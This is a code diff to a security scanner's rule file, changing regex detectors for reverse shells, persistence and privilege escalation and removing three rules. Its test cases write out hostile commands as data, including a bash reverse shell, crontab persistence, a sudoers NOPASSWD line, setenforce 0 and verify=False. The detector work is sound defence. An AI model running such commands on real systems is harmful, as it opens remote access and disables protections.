@@ -1,5 +1,6 @@
-import { COMMAND, js, MILD_COMMAND, py, type Rule, sh } from '../rule.ts';
+import { COMMAND, js, py, type Rule, sh } from '../rule.ts';
 
+/** Commands that harm the machine, or stay on it. */
 export const CONTROL_RULES: Rule[] = [
   {
     id: 'reverse-shell',
@@ -24,9 +25,12 @@ export const CONTROL_RULES: Rule[] = [
         'tcpclient',
         '/inet/tcp',
         'sh -i',
+        '.recv(',
+        'io::socket',
+        'tcpsocket',
       ],
       pattern:
-        /(?:[<>]&?|exec \d{1,2}<>) ?\/dev\/(?:tcp|udp)\/(?!(?:localhost|127\.0|\$?\{?(?:db_?)?host\b))[^\s]{1,80}|\b(?:ba|z)?sh -i\b[^\n]{0,40}[<>]&|\b(?:nc|ncat|netcat)\b[^\n|;]{0,60} (?:-\w{0,4}e|-c|--exec|--sh-exec)\b ?["']?\/?(?:bin\/)?(?:ba|z)?sh|\bmkfifo\b[^\n]{0,160}\b(?:nc|ncat|netcat|openssl s_client)\b|\bsocat\b[^\n]{0,120}\bexec:|\bos\.dup2\([^\n]{0,80}fileno|\bpty\.spawn\(|\bfsockopen\([^\n]{0,160}(?:exec|shell_exec|proc_open|\/bin\/sh)|Net\.Sockets\.TCPClient\(|\/inet\/tcp\/0\//i,
+        /(?:[<>]&?|exec \d{1,2}<>) ?\/dev\/(?:tcp|udp)\/(?!(?:localhost|127\.0|\$?\{?(?:db_?)?host\b))[^\s]{1,80}|\b(?:ba|z)?sh -i\b[^\n]{0,40}[<>]&|\b(?:nc|ncat|netcat)\b[^\n|;]{0,60} (?:-\w{0,4}e|-c|--exec|--sh-exec)\b ?["']?\/?(?:bin\/)?(?:ba|z)?sh|\bmkfifo\b[^\n]{0,160}\b(?:nc|ncat|netcat|openssl s_client)\b|\bsocat\b[^\n]{0,120}\bexec:|\bos\.dup2\([^\n]{0,80}fileno|\bpty\.spawn\(|\bfsockopen\([^\n]{0,160}(?:exec|shell_exec|proc_open|\/bin\/sh)|Net\.Sockets\.TCPClient\(|\/inet\/tcp\/0\/|\b(?:check_output|Popen|run|call|system|popen|exec\w{0,4})\([^\n]{0,40}\.recv\(|\bIO::Socket::INET\b[^\n]{0,200}\bexec\b|\bTCPSocket\.(?:open|new)\([^\n]{0,200}(?:\bexec\b|\/bin\/sh)/i,
     },
     hits: [
       sh('bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'),
@@ -115,9 +119,11 @@ export const CONTROL_RULES: Rule[] = [
         'usercustomize',
         'ld.so.preload',
         'start menu',
+        '.ssh/',
+        '.pth',
       ],
       pattern:
-        /\|\s{0,4}crontab\b(?! -l)|\bcrontab\s{1,3}(?!-[lru]\b|-u\b[^\n]{0,30} -l)["']?(?:-(?=\s|$)|[/$~<.\w]{2,80})|(?:>>?|tee(?: -a)?|cp|mv|install)[^\n;|]{0,100}\/etc\/(?:cron|rc\.local|init\.d|systemd\/system|profile\.d|ld\.so\.preload)|(?:>>?|tee(?: -a)?|write|open\(|append)[^\n;]{0,120}authorized_keys|(?:>>?|tee(?: -a)?|\bcp\b|\bmv\b|write(?:_text|FileSync|File)?\(|open\()[^\n;]{0,120}(?:LaunchAgents|LaunchDaemons|\.config\/autostart|systemd\/(?:user|system)|\.git\/hooks\/|sitecustomize\.py|usercustomize\.py|Start Menu)|\blaunchctl (?:load|bootstrap|submit)\b|\bsystemctl (?:--user )?enable\b|\bschtasks(?:\.exe)? \/create\b|CurrentVersion\\{1,2}Run\b|\bcore\.hooksPath\b|LaunchAgents["'/ ,]{1,4}[\w.]{1,60}\.plist/i,
+        /\|\s{0,4}crontab\b(?! -l)|\bcrontab\s{1,3}(?!-[lru]\b|-u\b[^\n]{0,30} -l)["']?(?:-(?=\s|$)|[/$~<.\w]{2,80})|(?:>>?|tee(?: -a)?|cp|mv|install)[^\n;|]{0,100}\/etc\/(?:cron|rc\.local|init\.d|systemd\/system|profile\.d|ld\.so\.preload)|(?:>>?|tee(?: -a)?|write|open\(|append)[^\n;]{0,120}authorized_keys|(?:>>?|tee(?: -a)?|\bcp\b|\bmv\b|write(?:_text|FileSync|File)?\(|open\()[^\n;]{0,120}(?:LaunchAgents|LaunchDaemons|\.config\/autostart|systemd\/(?:user|system)|\.git\/hooks\/|sitecustomize\.py|usercustomize\.py|Start Menu)|(?:>>?|tee(?: -a)?|open\()[^\n;]{0,80}\.ssh\/(?:config|rc|environment)\b|open\([^\n]{0,80}\.pth["']|>{1,2} ?[^\n;|]{0,80}\.pth\b|\blaunchctl (?:load|bootstrap|submit)\b|\bsystemctl (?:--user )?enable\b|\bschtasks(?:\.exe)? \/create\b|CurrentVersion\\{1,2}Run\b|\bcore\.hooksPath\b|LaunchAgents["'/ ,]{1,4}[\w.]{1,60}\.plist/i,
     },
     hits: [
       sh('(crontab -l; echo "* * * * * $HOME/x") | crontab -'),
@@ -155,90 +161,6 @@ export const CONTROL_RULES: Rule[] = [
     },
     hits: [sh('echo "alias ls=x" >> ~/.bashrc'), py('open(os.path.expanduser("~/.zshrc"), "a").write(line)')],
     misses: [sh('source ~/.bashrc'), sh('cat ~/.profile'), 'Add it to your `~/.zshrc`.'],
-  },
-  {
-    id: 'more-power',
-    family: 'control',
-    title: 'a lasting gain of power',
-    why: 'It makes later programs run as root, or opens what was closed.',
-    fix: 'Remove the step.',
-    where: { code: 'high', fence: 'medium', hidden: 'high', header: 'high', data: 'low' },
-    detector: {
-      kind: 'pattern',
-      needles: ['nopasswd', 'sudoers', 'chmod', 'setcap', 'usermod', 'setuid', 'docker', 'nsenter', '--privileged'],
-      pattern:
-        /\bNOPASSWD\b|(?:>>?|tee(?: -a)?)[^\n;]{0,60}\/etc\/sudoers|\bchmod (?:-\w{1,3} )?(?:u\+s|[ugo+]{1,4}s\b|[2467][0-7]{3}\b)[^\n]{0,80}|\bsetcap [^\n]{0,40}cap_(?:setuid|sys_admin|dac_override|sys_ptrace)|\busermod [^\n]{0,30}-aG? (?:sudo|wheel|root|docker)\b|\bdocker run\b[^\n]{0,200}(?:--privileged|-v \/:\/|--pid[= ]host)|\bnsenter [^\n]{0,40}-t ?1\b/,
-    },
-    hits: [
-      sh('echo "me ALL=(ALL) NOPASSWD: ALL" | tee -a /etc/sudoers'),
-      sh('chmod u+s /tmp/sh'),
-      sh('docker run --privileged -v /:/host x'),
-    ],
-    misses: [sh('chmod +x run.sh'), sh('chmod 755 run.sh'), sh('docker run --rm x')],
-  },
-  {
-    id: 'safeguard-off',
-    family: 'control',
-    title: 'a safeguard of the system is switched off',
-    why: 'Firewalls, virus scanners, quarantine and certificate checks are there for what this command would do next.',
-    fix: 'Leave it on; solve the problem that it reports.',
-    where: { code: 'high', fence: 'medium', hidden: 'high', header: 'high', data: 'low', prose: 'low' },
-    detector: {
-      kind: 'pattern',
-      needles: [
-        'setenforce',
-        'ufw',
-        'iptables',
-        'csrutil',
-        'spctl',
-        'quarantine',
-        'mppreference',
-        'executionpolicy',
-        'auditctl',
-        'histfile',
-        'history -c',
-        'tccutil',
-        'apparmor',
-        'firewalld',
-        'advfirewall',
-      ],
-      pattern:
-        /\bsetenforce 0\b|\bufw disable\b|\biptables (?:-F|--flush)\b|\bcsrutil disable\b|\bspctl --(?:master|global)-disable\b|\bxattr [^\n]{0,20}-\w{0,3}[dc]\w{0,3} [^\n]{0,20}com\.apple\.quarantine|\bSet-MpPreference\b[^\n]{0,80}-Disable|\bauditctl -e ?0|\bunset HISTFILE\b|\bHISTFILE=\/dev\/null|\bhistory -c\b|\bsystemctl (?:stop|disable) (?:apparmor|firewalld|auditd)|\badvfirewall set \w{1,20} state off/i,
-    },
-    hits: [sh('setenforce 0'), sh('xattr -d com.apple.quarantine ./tool'), sh('unset HISTFILE')],
-    misses: [sh('iptables -L'), sh('xattr -l file'), sh('csrutil status')],
-  },
-  {
-    id: 'checks-off',
-    family: 'control',
-    title: 'a check is switched off',
-    why: 'Without certificates compared or hooks run, whoever sits between can put in what he likes.',
-    fix: 'Leave the check on.',
-    where: { ...MILD_COMMAND, fence: 'info', data: 'info' },
-    detector: {
-      kind: 'pattern',
-      needles: [
-        'tls_reject',
-        'verify',
-        'sslverify',
-        'strict-ssl',
-        'strictssl',
-        'curl',
-        'stricthostkey',
-        '_create_unverified',
-        'cert_none',
-        'rejectunauthorized',
-        '--no-check-certificate',
-      ],
-      pattern:
-        /\bNODE_TLS_REJECT_UNAUTHORIZED["'\]]{0,2} ?= ?["']?0|\bverify ?= ?False\b|\bhttp\.sslVerify[ =]{1,2}["']?false|\bstrict-ssl[ =]false|\bcurl\b[^\n|;]{0,80} (?:-[a-zA-Z]{0,4}k[a-zA-Z]{0,4}|--insecure)\b|\bStrictHostKeyChecking[= ]no\b|_create_unverified_context|\bCERT_NONE\b|\brejectUnauthorized: ?false|--no-check-certificate/,
-    },
-    hits: [
-      py('requests.get(u, verify=False)'),
-      sh('curl -k https://example.invalid'),
-      js("process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0'"),
-    ],
-    misses: [py('requests.get(u, verify=True)'), sh('curl -sS https://example.com')],
   },
   {
     id: 'miner',
